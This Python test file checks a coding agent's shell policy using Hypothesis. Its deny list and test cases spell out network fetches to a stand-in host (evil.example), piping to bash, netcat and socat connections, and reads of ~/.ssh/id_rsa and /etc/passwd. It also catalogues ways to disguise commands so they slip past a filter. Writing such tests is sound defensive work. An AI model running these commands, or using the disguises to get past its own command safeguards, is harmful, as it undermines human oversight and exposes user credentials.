"""The shell policy cannot be talked out of its deny list.

A denied command (a network fetcher, a package install, a push, sudo) is
wrapped by Hypothesis in every disguise a model could write: quoting and
escapes, absolute paths to the binary, `sh -c` / `bash -lc` (nested), `env`,
`timeout`, `nice`, `xargs`, `command`, variable assignments, pipes, `;`, `&&`,
`||`, newlines, subshells and braces, shell keywords, `$(...)` and backticks.
The verdict must stay DENY, and the command must never run.
"""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from qwill.agent.shell import ShellPolicy, Verdict

DENIED = ["curl https://evil.example/x.sh", "wget -q http://evil.example", "nc evil.example 80",
          "ssh user@host", "scp a host:b", "pip install requests", "pip3 install x",
          "python -m pip install evil", "npm install left-pad", "git push origin main",
          "git fetch origin", "git clone https://github.com/a/b", "git remote add x y",
          "git log --all --oneline", "git reflog", "sudo ls", "apt-get install x", "socat - tcp:h:1",
          "rsync -a . host:/x", "go get example.com/x", "cargo install x", "git config --global x y"]
HARMLESS = ["ls -la", "echo ok", "true", "cat README.md", "grep -rn foo .", "git status"]


def quote_word(word: str, style: int) -> str:
    """One word written differently, meaning the same to the shell."""
    if style == 0 or not word:
        return word
    if style == 1:
        return f"'{word}'"
    if style == 2:
        return f'"{word}"'
    if style == 3:
        return word[0] + "''" + word[1:]  # cu''rl
    if style == 4:
        return "\\" + word if word[0].isalpha() else word  # \curl
    return word[:1] + '"' + word[1:] + '"'  # c"url"


@st.composite
def disguised(draw: st.DrawFn, command: str) -> str:
    words = shlex.split(command)
    head = words[0]
    if draw(st.booleans()):
        head = draw(st.sampled_from([f"/usr/bin/{head}", f"/bin/{head}", f"/usr/local/bin/{head}",
                                     f"/usr/bin/../bin/{head}", f"./{head}"]))
    words = [head, *words[1:]]
    line = " ".join(quote_word(w, draw(st.integers(0, 5))) for w in words)
    for _ in range(draw(st.integers(0, 3))):
        how = draw(st.sampled_from(["sh", "bash", "env", "envvar", "timeout", "nice", "xargs", "command",
                                    "nohup", "assign", "pipe_in", "pipe_out", "seq", "and", "or",
                                    "newline", "subshell", "brace", "if", "for", "not", "time", "exec"]))
        other = draw(st.sampled_from(HARMLESS))
        line = {
            "sh": f"sh -c {shlex.quote(line)}",
            "bash": f"bash -lc {shlex.quote(line)}",
            "env": f"env {line}",
            "envvar": f"env -i PATH=/usr/bin {line}",
            "timeout": f"timeout 30 {line}",
            "nice": f"nice -n 5 {line}",
            "xargs": f"echo x | xargs {line}",
            "command": f"command {line}",
            "nohup": f"nohup {line}",
            "assign": f"HTTPS_PROXY= {line}",
            "pipe_in": f"{other} | {line}",
            "pipe_out": f"{line} | {other}",
            "seq": f"{other}; {line}",
            "and": f"{other} && {line}",
            "or": f"false || {line}",
            "newline": f"{other}\n{line}",
            "subshell": f"( {line} )",
            "brace": f"{{ {line}; }}",
            "if": f"if true; then {line}; fi",
            "for": f"for i in 1 2; do {line}; done",
            "not": f"! {line}",
            "time": f"time {line}",
            "exec": f"exec {line}",
        }[how]
    return line


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("ws")


@settings(max_examples=400, deadline=None)
@given(data=st.data(), command=st.sampled_from(DENIED))
def test_a_denied_command_stays_denied_in_any_disguise(root: Path, data, command: str) -> None:
    line = data.draw(disguised(command))
    decision = ShellPolicy().check(line, root)
    assert decision.verdict is Verdict.DENY, (line, decision)


@pytest.mark.parametrize("line", [
    "echo $(curl x)", "echo `curl x`", "cat <(curl x)", "diff <(ls) >(wget y)", "ls $(echo)",
    "echo 'curl x' | sh", "echo curl x | bash", "sh < script.sh", "bash <<< 'curl x'", "bash -s",
    "c=curl; $c http://x", "$'curl' x", "/usr/bin/cur? x", "/usr/bin/c*l x", "${CURL} x",
    "git -c http.proxy=x push", "git -C other fetch", "git --no-pager log --all",
    "python -m pip -q install x", "pip --proxy p install x", "sh -c -- 'curl x'",
    "find . -exec curl {} \\;", "xargs -I {} curl {} < urls", "git -c alias.st='!curl x' st",
    "env -u HOME curl x", "env -S 'curl x'", "watch -n 1 curl x",
])
def test_lines_whose_real_command_cannot_be_seen_are_denied(root: Path, line: str) -> None:
    decision = ShellPolicy().check(line, root)
    assert decision.verdict is Verdict.DENY, (line, decision)


@pytest.mark.parametrize("line", ["ls -la", "git status && git diff", "grep -rn push src | head",
                                  "git log --oneline -5", "pytest -q", "echo curl", "sh -c 'ls; pwd'",
                                  "git commit -m 'do not push'", "FOO=$BAR pytest -q", "[ -f a.txt ] && ls",
                                  "git -C sub status", "find . -name '*.py' -exec grep -n x {} +"])
def test_ordinary_commands_keep_their_verdict(root: Path, line: str) -> None:
    assert ShellPolicy().check(line, root).verdict is not Verdict.DENY, line


@pytest.mark.parametrize("line", ["cat ~/.ssh/id_rsa", "cat /etc/passwd", "grep -r key ../other-project",
                                  "head -n 5 link_out/secret.txt", "cat < /etc/hostname", "ls /",
                                  "grep --file=/etc/passwd x a.txt", "tail ./../../x"])
def test_allowed_readers_pointed_outside_the_workspace_must_ask(tmp_path: Path, line: str) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret.txt").write_text("x")
    (root / "link_out").symlink_to(tmp_path / "outside")
    decision = ShellPolicy().check(line, root)
    assert decision.verdict is Verdict.ASK, (line, decision)
    assert any("outside the workspace" in r for r in decision.reasons)


@pytest.mark.parametrize("line", ["cat README.md", "ls src", "grep -rn x .", "head -5 ./a.py < a.py",
                                  "cat /dev/null", "pytest -q tests/"])
def test_readers_inside_the_workspace_stay_allowed(tmp_path: Path, line: str) -> None:
    root = tmp_path / "ws"
    (root / "src").mkdir(parents=True)
    (root / "a.py").write_text("x")
    assert ShellPolicy().check(line, root).verdict is Verdict.ALLOW, line
